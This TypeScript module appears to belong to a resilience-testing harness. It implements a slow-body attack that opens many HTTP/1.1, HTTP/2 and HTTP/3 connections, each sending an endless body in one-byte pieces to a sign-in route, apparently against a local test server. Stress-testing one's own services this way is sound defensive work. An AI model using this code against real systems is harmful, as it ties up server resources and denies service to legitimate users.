import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Target } from "../attack.ts";
import { headersFrame } from "../clients/http3-frames.ts";
import {
  connectTls,
  fieldBlock,
  flood,
  frame,
  frameFlag,
  frameType,
  RawHttp2,
} from "../clients/raw-http2.ts";
import { RawHttp3 } from "../clients/raw-http3.ts";
import { signIn, signInLines } from "../clients/sign-in.ts";

/** A source of its own, as other attacks may hold the share of theirs. */
const from = "127.0.0.24";

/** Connections in each version of HTTP. */
const connections = 40;
/** Pieces of one byte on a connection: as many as the route reads. */
const pieces = 3600;

/** A connection on which a body was sent. */
interface Client {
  readonly isClosed: boolean;
  close(): void;
}

type Way = (target: Target) => Promise<Client>;

const ways: readonly Way[] = [overHttp1, overHttp2, overHttp3];

/** Bodies in pieces of one byte that do not end, to a route that needs no token. */
export const tinyPieces: Attack = {
  name: "bodies in pieces of one byte",
  unit: "pieces",
  async run(target, signal, tally) {
    await Promise.all(
      Array.from({ length: ways.length * connections }, async (_, i) => {
        while (!signal.aborted) {
          const client = await ways[i % ways.length]!(target);
          tally(pieces);
          while (!client.isClosed && !signal.aborted) await sleep(50);
          client.close();
          await sleep(20);
        }
      }),
    );
  },
};

async function overHttp1(target: Target): Promise<Client> {
  const socket = await connectTls(target, "http/1.1", from);
  socket.resume();
  await flood(
    socket,
    `${signInLines(target)}transfer-encoding: chunked\r\n\r\n${"1\r\nx\r\n".repeat(pieces)}`,
  );
  return {
    get isClosed() {
      return socket.destroyed;
    },
    close: () => void socket.destroy(),
  };
}

async function overHttp2(target: Target): Promise<Client> {
  const client = await RawHttp2.open(target, { from });
  const fields = frame(frameType.headers, frameFlag.endHeaders, 1, fieldBlock(signIn(target)));
  await client.send(fields, repeated(frame(frameType.data, 0, 1, Buffer.from("x"))));
  return client;
}

async function overHttp3(target: Target): Promise<Client> {
  const client = await RawHttp3.open(target, { from });
  // DATA frames of one byte (RFC 9114 §7.2.1).
  client.stream(Buffer.concat([headersFrame(signIn(target)), repeated(Buffer.from([0, 1, 120]))]), false);
  return client;
}

function repeated(piece: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: pieces }, () => piece));
}
